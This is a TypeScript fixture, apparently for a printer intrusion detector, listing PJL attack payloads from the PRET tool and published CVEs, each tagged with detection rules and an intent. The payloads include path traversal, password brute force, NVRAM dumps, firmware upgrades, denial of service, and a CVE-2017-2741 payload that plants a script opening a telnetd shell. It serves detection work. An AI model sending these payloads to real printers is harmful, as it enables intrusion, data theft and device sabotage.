/** Attacks in PJL whose bytes are known: the commands of PRET, and published exploits. */
import { type Attack, framed, pretAsks, pretSets, pretTells, UEL } from "./attack.ts";

const PRET = "PRET a04bd04, pjl.py";
const PIN = (pin: number) => `@PJL JOB PASSWORD=${pin}\r\n@PJL DEFAULT PASSWORD=0`;
const range = (n: number) => Array.from({ length: n }, (_, i) => i);
const traversed = '"0:/../../rw/var/etc/profile.d/kVqPzXwa.sh"';
const command = "(cd / && busybox telnetd -l /bin/sh -p 4444); rm -f /etc/profile.d/kVqPzXwa.sh";

export const PJL_ATTACKS: Attack[] = [
  {
    what: "PRET connects and asks for the version",
    source: `${PRET}, on_connect and do_version`,
    sent:
      pretTells("@PJL USTATUSOFF") +
      pretAsks("@PJL INFO CONFIG", 1) +
      pretAsks("@PJL INFO PRODINFO", 22222) +
      pretAsks("@PJL INFO BRFIRMWARE", 65535),
    rules: ["pjl-delimiter-echo", "pjl-info-config", "pjl-prodinfo", "pjl-info-supplies"],
    intent: "reconnaissance",
  },
  {
    what: "PRET asks with status messages on",
    source: `${PRET}, cmd`,
    sent: `${UEL}@PJL INFO ID\r\n@PJL INFO STATUS\r\n@PJL ECHO DELIMITER7\r\n\r\n${UEL}`,
    rules: ["pjl-delimiter-echo", "pjl-info-id", "pjl-info-status"],
    intent: "reconnaissance",
  },
  {
    what: "PRET id, df, free, env, status, pagecount",
    source: PRET,
    sent: ["ID", "FILESYS", "MEMORY", "VARIABLES", "PAGECOUNT", "USTATUS", "LOG", "TRACKING", "SUPPLIES"]
      .map((category) => pretAsks(`@PJL INFO ${category}`))
      .join(""),
    rules: ["pjl-delimiter-echo", "pjl-info-filesys", "many-questions"],
    intent: "reconnaissance",
  },
  {
    what: "PRET ls",
    source: `${PRET}, dirlist`,
    sent: pretAsks('@PJL FSDIRLIST NAME="0:" ENTRY=1 COUNT=65535'),
    rules: ["pjl-fsdirlist", "pjl-delimiter-echo"],
    intent: "reconnaissance",
  },
  {
    what: "PRET get and mirror",
    source: `${PRET}, file_exists and get`,
    sent:
      pretAsks('@PJL FSQUERY NAME="0:/webServer/home/device.html"') +
      pretAsks('@PJL FSUPLOAD NAME="0:/webServer/home/device.html" OFFSET=0 SIZE=210'),
    rules: ["pjl-fsdirlist", "file-read"],
    intent: "data-theft",
  },
  {
    what: "PRET put, append, mkdir, delete",
    source: PRET,
    sent:
      pretTells('@PJL FSDOWNLOAD FORMAT:BINARY SIZE=5 NAME="0:/a.txt"\r\nhello') +
      pretTells('@PJL FSAPPEND FORMAT:BINARY SIZE=5 NAME="0:/a.txt"\r\nworld') +
      pretTells('@PJL FSMKDIR NAME="0:/b"') +
      pretTells('@PJL FSDELETE NAME="0:/a.txt"'),
    rules: ["file-stored"],
    intent: "tampering",
  },
  {
    what: "PRET traversal and cat",
    source: `${PRET}, traversal`,
    sent: pretAsks('@PJL FSUPLOAD NAME="0:/../../etc/passwd" OFFSET=0 SIZE=1024'),
    rules: ["pjl-traversal", "file-read"],
    intent: "exploit",
  },
  {
    what: "PRET display",
    source: `${PRET}, do_display`,
    sent: pretTells('@PJL RDYMSG DISPLAY="HACKED"'),
    rules: ["ready-message-changed"],
    intent: "tampering",
  },
  {
    what: "PRET offline",
    source: `${PRET}, do_offline`,
    sent: pretTells('@PJL OPMSG DISPLAY="out of order"'),
    rules: ["device-offline"],
    intent: "denial-of-service",
  },
  {
    what: "PRET restart",
    source: `${PRET}, do_restart`,
    sent: pretTells('@PJL DMCMD ASCIIHEX="040006020501010301040104"'),
    rules: ["device-reset"],
    intent: "denial-of-service",
  },
  {
    what: "PRET reset",
    source: `${PRET}, do_reset`,
    sent: [
      { send: pretTells('@PJL DMCMD ASCIIHEX="040006020501010301040106"') },
      {
        send: pretTells(
          "@PJL SET SERVICEMODE=HPBOISEID\r\n@PJL CLEARNVRAM\r\n@PJL NVRAMINIT\r\n@PJL INITIALIZE\r\n@PJL SET SERVICEMODE=EXIT",
        ),
        after: "5 min",
      },
      { send: pretTells("@PJL INITIALIZE\r\n@PJL RESET\r\n@PJL EXECUTE SHUTDOWN"), after: "6 min" },
    ],
    rules: ["device-reset", "service-mode", "default-changed"],
    intent: "tampering",
  },
  {
    what: "PRET selftest, PJL pages",
    source: `${PRET}, do_selftest`,
    sent: ["SELFTEST", "PCLTYPELIST", "CONTSELFTEST", "PSDEMOPAGE", "EVENTLOG", "SUPPLIESSTATUSREPORT"]
      .map((page) => pretTells(`@PJL SET TESTPAGE=${page}`))
      .join(""),
    rules: ["device-pages-printed"],
    intent: "denial-of-service",
  },
  {
    what: "PRET selftest, PML pages",
    source: `${PRET}, do_selftest`,
    sent: ["04000401010502040103", "04000401010502040164", "040004010105020402015E", "04000401010502040201C2"]
      .map((object) => pretTells(`@PJL DMCMD ASCIIHEX="${object}"`))
      .join(""),
    rules: ["device-pages-printed"],
    intent: "denial-of-service",
  },
  {
    what: "PRET selftest, Brother pages",
    source: `${PRET}, do_selftest`,
    sent: pretTells(
      "@PJL EXECUTE MAINTENANCEPRINT\r\n@PJL EXECUTE TESTPRINT\r\n@PJL EXECUTE DEMOPAGE\r\n@PJL EXECUTE RESIFONT\r\n@PJL EXECUTE PERMFONT\r\n@PJL EXECUTE PRTCONFIG",
    ),
    rules: ["device-pages-printed"],
    intent: "denial-of-service",
  },
  {
    what: "PRET format",
    source: `${PRET}, do_format`,
    sent: pretTells('@PJL FSINIT VOLUME="0"'),
    rules: ["volume-formatted"],
    intent: "denial-of-service",
  },
  {
    what: "PRET disable",
    source: `${PRET}, do_disable`,
    sent: pretAsks("@PJL DINQUIRE JOBMEDIA") + pretSets("JOBMEDIA=OFF"),
    rules: ["jobmedia-off", "service-mode"],
    intent: "tampering",
  },
  {
    what: "printing switched off without service mode",
    source: "PJL Technical Reference Manual, JOBMEDIA",
    sent: framed("@PJL DEFAULT JOBMEDIA=OFF"),
    rules: ["jobmedia-off"],
    intent: "denial-of-service",
  },
  {
    what: "PRET destroy",
    source: `${PRET}, do_destroy: 98 writes a round, service mode every tenth`,
    sent:
      pretSets("COPIES=42") +
      pretAsks("@PJL DINQUIRE COPIES") +
      pretAsks(
        range(98)
          .map((n) => `@PJL DEFAULT COPIES=${(n + 2) % 98}`)
          .concat("@PJL INFO ID")
          .join("\r\n"),
      ),
    rules: ["default-copies-written", "defaults-worn-out", "service-mode"],
    intent: "tampering",
  },
  {
    what: "PRET hold",
    source: `${PRET}, do_hold`,
    sent: pretSets("HOLD=ON"),
    rules: ["jobs-retained", "service-mode"],
    intent: "data-theft",
  },
  {
    what: "PRET nvram dump",
    source: `${PRET}, do_nvram: 256 addresses in one write`,
    sent: pretAsks(
      range(256)
        .map((n) => `@PJL RNVRAM ADDRESS=${n}`)
        .join("\r\n"),
    ),
    rules: ["nvram-read", "more-said-than-written"],
    intent: "data-theft",
  },
  {
    what: "PRET nvram write",
    source: `${PRET}, do_nvram`,
    sent: pretTells("@PJL SUPERUSER PASSWORD=0\r\n@PJL WNVRAM ADDRESS=12 DATA=1\r\n@PJL SUPERUSEROFF"),
    rules: ["service-mode"],
    intent: "tampering",
  },
  {
    what: "PRET pagecount set",
    source: `${PRET}, do_pagecount`,
    sent: pretSets("PAGES=4242"),
    rules: ["service-mode"],
    intent: "tampering",
  },
  {
    what: "PRET lock",
    source: `${PRET}, do_lock`,
    sent:
      pretTells("@PJL DEFAULT PASSWORD=4711\r\n@PJL DEFAULT CPLOCK=ON\r\n@PJL DEFAULT DISKLOCK=ON") +
      pretAsks("@PJL DINQUIRE PASSWORD"),
    rules: ["lock-changed", "pjl-inquire"],
    intent: "tampering",
  },
  {
    what: "PRET unlock with one password",
    source: `${PRET}, do_unlock`,
    sent: pretAsks(`${PIN(4711)}\r\n@PJL DINQUIRE PASSWORD`),
    rules: ["password-tried", "lock-changed"],
    intent: "tampering",
  },
  {
    what: "PRET unlock by brute force",
    source: `${PRET}, do_unlock: 500 in one write`,
    sent: pretAsks(`${range(500).map(PIN).join("\r\n")}\r\n@PJL DINQUIRE PASSWORD`),
    rules: ["password-guessing", "lock-changed", "more-said-than-written"],
    intent: "tampering",
  },
  {
    what: "passwords guessed one connection after the other",
    source: "PJL Technical Reference Manual, JOB",
    sent: [1, 2, 3].map((pin) => ({ send: framed(`@PJL JOB PASSWORD=${pin}`), after: `${pin * 5} s` })),
    rules: ["password-guessing"],
    intent: "tampering",
  },
  {
    what: "PRET flood",
    source: `${PRET}, do_flood: 10,000 bytes for every argument`,
    sent: ["SET COPIES=", "SET ", "", "COMMENT ", "ENTER LANGUAGE=", 'JOB NAME="', "INFO ", "ECHO ", 'FSQUERY NAME="']
      .map((start) => pretTells(`@PJL ${start}${"0".repeat(10_000)}`))
      .join(""),
    rules: ["long-argument"],
    intent: "exploit",
  },
  {
    what: "Lexmark, INQUIRE with a long argument",
    source: "CVE-2010-0619",
    sent: `${UEL}@PJL INQUIRE ${"A".repeat(2_000)}\r\n${UEL}`,
    rules: ["long-argument"],
    intent: "exploit",
  },
  {
    what: "HP, listing beyond the volume",
    source: "CVE-2010-4107, exploit-db 15631",
    sent: framed('@PJL FSDIRLIST NAME="0:\\..\\..\\..\\" ENTRY=1 COUNT=999999'),
    rules: ["pjl-traversal", "pjl-fsdirlist"],
    intent: "exploit",
  },
  {
    what: "HP, start script left by FSDOWNLOAD",
    source: "CVE-2017-2741; Metasploit exploit/linux/misc/hp_jetdirect_path_traversal",
    sent: `${UEL}@PJL\n${UEL}@PJL\n@PJL FSINIT VOLUME = "0:"\n${UEL}${UEL}@PJL\n@PJL FSDOWNLOAD FORMAT:BINARY SIZE=${command.length} NAME = ${traversed}\n${command}${UEL}${UEL}@PJL\n@PJL FSQUERY NAME = ${traversed}\n${UEL}`,
    rules: ["volume-formatted", "pjl-traversal", "file-stored", "file-with-commands"],
    intent: "exploit",
  },
  {
    what: "HP, firmware by remote update",
    source: "CVE-2011-4161, VU#717921",
    sent: `${UEL}@PJL COMMENT MODEL=HP LaserJet P3005\r\n@PJL UPGRADE SIZE=32\r\n\x00\x01\x02\x03firmware image of 32 bytes.${UEL}`,
    rules: ["firmware-upgrade"],
    intent: "exploit",
  },
  {
    what: "Lexmark, firmware by LPROGRAMRIP",
    source: "Claroty, 2020",
    sent: framed('@PJL LPROGRAMRIP SOCKET=1 KERNELCOUNT=1024 TYPE=MAIN RIPNAME="x.fls"'),
    rules: ["firmware-upgrade"],
    intent: "exploit",
  },
  {
    what: "Brother, FORMLINES that is no number",
    source: "CVE-2024-51982; PrinterReaper ac4c63f, which asks before",
    sent: `${UEL}@PJL DINQUIRE FORMLINES\r\n${UEL}${UEL}@PJL\r\n@PJL SET FORMLINES=A\r\n${UEL}`,
    rules: ["brother-formlines"],
    intent: "denial-of-service",
  },
  {
    what: "jokes on the panel",
    source: "lifehacker, October 2007; hp display hack; bid 2245",
    sent: framed('@PJL RDYMSG DISPLAY="INSERT COIN"'),
    rules: ["ready-message-changed"],
    intent: "tampering",
  },
  {
    what: "a joke in the form of a print system's message, without a job",
    source: "made up",
    sent: framed('@PJL RDYMSG DISPLAY="13 ghost boo"'),
    rules: ["ready-message-of-job"],
    intent: "tampering",
  },
  {
    what: "variables tried without a job",
    source: "PJL Technical Reference Manual, SET",
    sent: framed("@PJL SET COPIES=999", "@PJL SET ECONOMODE=ON"),
    rules: ["variable-set"],
    intent: "tampering",
  },
  {
    what: "STMSG takes the device offline",
    source: "PJL Technical Reference Manual, STMSG",
    sent: framed('@PJL STMSG DISPLAY="SERVICE"'),
    rules: ["device-offline"],
    intent: "denial-of-service",
  },
  {
    what: "an upgrade behind sixty harmless commands",
    source: "made up: a session writes down so many commands and counts the rest",
    sent: framed(...range(60).map((n) => `@PJL COMMENT ${n}`), "@PJL UPGRADE SIZE=1"),
    rules: ["more-said-than-written", "firmware-upgrade"],
    intent: "exploit",
  },
];
